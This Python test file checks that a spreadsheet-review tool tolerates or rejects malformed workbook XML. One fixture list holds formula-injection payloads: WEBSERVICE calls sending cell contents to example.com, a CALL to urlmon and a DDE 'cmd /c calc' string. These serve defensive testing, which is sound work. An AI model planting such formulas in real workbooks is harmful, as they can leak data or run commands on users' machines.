"""Attributes that no spreadsheet program writes are read sensibly, or refused before writing."""

import math
import re
from datetime import date

import pytest

from jixiao.errors import NotAWorkbookError
from jixiao.sheets.address import LAST_ROW
from support.books import Book

SHEET, TABLE = "xl/worksheets/sheet18.xml", "xl/tables/table14.xml"
DAY = date(2023, 8, 1)
NO_MEASURE = (
    "nan",
    "-nan",
    "inf",
    "-Infinity",
    "1e999",
    "-20",
    "0",
    "",
    " ",
    "9" * 5000,
    "1_0",
    "x",
)
ROW_6 = '<row r="6" spans="1:14" ht="20.25" customHeight="1">'


def _written(book: Book, *changes: tuple[str, str]) -> str:
    """校验结果 as XML after the sample's findings were written into the changed sheet."""
    return _after(book, *changes).part(SHEET)


def _after(book: Book, *changes: tuple[str, str]) -> Book:
    return book.edited(SHEET, *changes).checked(DAY, book.findings[:3])


def _heights(xml: str) -> list[float]:
    return [float(ht) for ht in re.findall(r'<row r="[678]"[^>]* ht="([^"]*)"', xml)]


def test_the_heights_of_a_sheet_in_order(book: Book) -> None:
    heights = _heights(_written(book))
    assert len(heights) == 3
    assert all(20.25 <= height < 409 for height in heights)


@pytest.mark.parametrize("said", NO_MEASURE)
@pytest.mark.parametrize(
    "attribute",
    [
        'width="56.7109375" customWidth="1"',  # 问题, the longest text
        'defaultRowHeight="20.25"',
    ],
)
def test_a_measure_that_is_none_is_the_usual_one(book: Book, attribute: str, said: str) -> None:
    changed = attribute.replace(attribute.split('"')[1], said)
    heights = _heights(_written(book, (attribute, changed)))
    assert len(heights) == 3
    assert all(math.isfinite(height) and 15 <= height <= 409 for height in heights)


@pytest.mark.parametrize(
    "columns",
    [
        'min="x" max="6"',
        'min="" max=""',
        'min="-1" max="nan"',
        'min="6" max="' + "9" * 5000 + '"',
        'min="9" max="2"',
        'max="6"',
    ],
)
def test_columns_that_make_no_sense_are_as_wide_as_usual(book: Book, columns: str) -> None:
    heights = _heights(_written(book, ('min="6" max="6"', columns)))
    assert len(heights) == 3
    assert all(math.isfinite(height) for height in heights)


@pytest.mark.parametrize("custom", ["", "nan", "yes", "9" * 5000])
def test_what_a_row_says_about_its_height_is_said_anew(book: Book, custom: str) -> None:
    odd = f'<row r="6" ht="{custom}" customHeight="{custom}">'
    xml = _written(book, (ROW_6, odd))
    assert re.search(r'<row r="6" ht="[0-9]+(\.[0-9]+)?" customHeight="1">', xml)


@pytest.mark.parametrize("style", ["abc", "-1", "", "1e3", "9" * 5000])
def test_a_style_that_is_no_number_is_not_handed_on(book: Book, style: str) -> None:
    first = book.checked(DAY, book.findings[:3])
    cell = re.search(r'<c r="F7" s="(\d+)"', first.part(SHEET))
    assert cell is not None
    odd = first.edited(SHEET, (cell[0], f'<c r="F7" s="{style}"'))
    after = odd.checked(DAY, odd.findings[1:3]).part(SHEET)
    moved = re.search(r'<c r="F6" s="([^"]*)"', after)
    assert moved is not None
    assert moved[1] == "0"


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("0", "0"),
        ("-3", "-3"),
        ("abc", "abc"),
        ("6.5", "6.5"),
        ("", ""),
        ("2000000", "2000000"),
        ("９", "９"),
        ("9" * 5000, "9" * 20 + "…"),
    ],
)
def test_a_row_without_a_number_that_a_row_can_have_is_refused(
    book: Book, said: str, shown: str
) -> None:
    odd = book.edited(SHEET, (ROW_6, ROW_6.replace('r="6"', f'r="{said}"')))
    with pytest.raises(NotAWorkbookError) as refusal:
        odd.checked(DAY, book.findings[:3])
    words = str(refusal.value)
    assert words.startswith("自评.xlsx：")
    assert f"工作表“校验结果”第5行之后的行号“{shown}”不对" in words


@pytest.mark.parametrize(
    ("old", "new", "words"),
    [
        (ROW_6, ROW_6.replace('r="6"', 'r="5"'), "第5行出现两次"),
        ('<c r="B6"', '<c r="C6"', "单元格 C6 出现两次"),
        ('<c r="B6"', '<c r="B9"', "单元格 B9 写在第6行里"),
        ('<c r="B6"', '<c r="B"', "单元格的地址“B”不对"),
        ('<c r="B6"', '<c r="XFE6"', "单元格的地址“XFE6”不对"),
        ('<c r="B6"', f'<c r="B{"6" * 5000}"', f"单元格的地址“B{'6' * 19}”不对"),
    ],
)
def test_places_that_contradict_each_other_are_refused(
    book: Book, old: str, new: str, words: str
) -> None:
    with pytest.raises(NotAWorkbookError, match=words):
        _after(book, (old, new))


def test_rows_out_of_order_are_put_in_order(book: Book) -> None:
    xml = book.part(SHEET)
    rows = re.findall(r"<row .*?</row>", xml, re.DOTALL)
    swapped = _after(book, (rows[9] + rows[10], rows[10] + rows[9]))
    numbers = [int(each) for each in re.findall(r'<row r="(\d+)"', swapped.part(SHEET))]
    assert numbers == sorted(set(numbers))
    assert len(swapped.content.review) == 3


def test_rows_that_leave_out_their_number_are_where_their_cells_are(book: Book) -> None:
    without = re.sub(r'<row r="\d+"', "<row", book.part(SHEET))
    after = _after(book, (book.part(SHEET), without))
    assert after.content.review == _after(book).content.review
    assert after.sheet().values == _after(book).sheet().values


@pytest.mark.parametrize("column", ["x", "", "-1", "9" * 5000])
def test_a_filter_over_no_column_hides_nothing(book: Book, column: str) -> None:
    only = f'<filterColumn colId="{column}"><filters><filter val="必改"/></filters></filterColumn>'
    plain = '<autoFilter ref="A5:N105"/>'
    odd = book.edited(TABLE, (plain, f'<autoFilter ref="A5:N105">{only}</autoFilter>'))
    after = odd.checked(DAY, book.findings[-3:])
    assert not re.search(r'<row r="[678]"[^>]* hidden="1"', after.part(SHEET))


def test_a_list_as_long_as_the_sheet_is_not_filled_with_rows(book: Book) -> None:
    only = '<filterColumn colId="1"><filters><filter val="必改"/></filters></filterColumn>'
    plain, area = '<autoFilter ref="A5:N105"/>', f"A5:N{LAST_ROW}"
    odd = book.edited(
        TABLE,
        (plain, f'<autoFilter ref="{area}">{only}</autoFilter>'),
        ('ref="A5:N105"', f'ref="{area}"'),
    )
    after = odd.checked(DAY, book.findings[:3])
    assert after.part(SHEET).count("<row ") == book.part(SHEET).count("<row ")


_FOREIGN = (
    'WEBSERVICE("http://example.com/?"&A1)',
    'HYPERLINK("http://example.com/","预决算!B9")',
    'HYPERLINK("#预决算!B9",WEBSERVICE("http://example.com/"))',
    'HYPERLINK("#预决算!B9","x")&CALL("urlmon","x","JJ")',
    "cmd|'/c calc'!A0",
    "",
)


def _kept(book: Book, formula: str | None) -> Book:
    """A finding with a 说明, its 位置 calculated by ``formula``, that is not found any more."""
    checked = book.checked(DAY, book.findings[:1])
    xml = checked.part(SHEET)
    cell = re.search(r'(<c r="C6"[^>]*>)<f>(.*?)</f>', xml)
    note = re.search(r'<c r="J6"( s="\d+")/>', xml)
    assert cell is not None
    assert note is not None
    written = cell[2] if formula is None else formula.replace("&", "&amp;")
    return checked.edited(
        SHEET,
        (cell[0], f"{cell[1]}<f>{written}</f>"),
        (note[0], f'<c r="J6"{note[1]} t="inlineStr"><is><t>已核对</t></is></c>'),
    )


@pytest.mark.parametrize("formula", _FOREIGN)
def test_a_formula_of_somebody_else_does_not_stay_in_a_kept_row(book: Book, formula: str) -> None:
    after = _kept(book, formula).checked(DAY, ()).sheet()
    assert after.value(6, 10) == "已核对"
    assert after.formula(6, 3) is None
    assert isinstance(after.value(6, 3), str)


def test_the_link_of_a_kept_row_stays(book: Book) -> None:
    before = _kept(book, None)
    after = before.checked(DAY, ()).sheet()
    assert str(after.formula(6, 3)).startswith('HYPERLINK("#')
    assert after.formula(6, 3) == before.sheet().formula(6, 3)


@pytest.mark.parametrize(
    "formula", ["9" * 5000 + "COUNTA(结果_程度)", "IF(COUNTA(结果_程度)=0,1,2)"]
)
def test_a_count_of_somebody_else_is_not_guessed(book: Book, formula: str) -> None:
    cover = "xl/worksheets/sheet1.xml"
    own = re.search(r"<f>([^<]*COUNTIF\(结果_程度[^<]*)</f><v>[^<]*</v>", book.part(cover))
    assert own is not None
    odd = book.edited(cover, (own[0], f"<f>{formula}</f><v>旧</v>"))
    after = odd.checked(DAY, book.findings[:3]).sheet("首页")
    [value] = [after.values[cell] for cell, text in after.formulas.items() if text == formula]
    assert value == "旧"
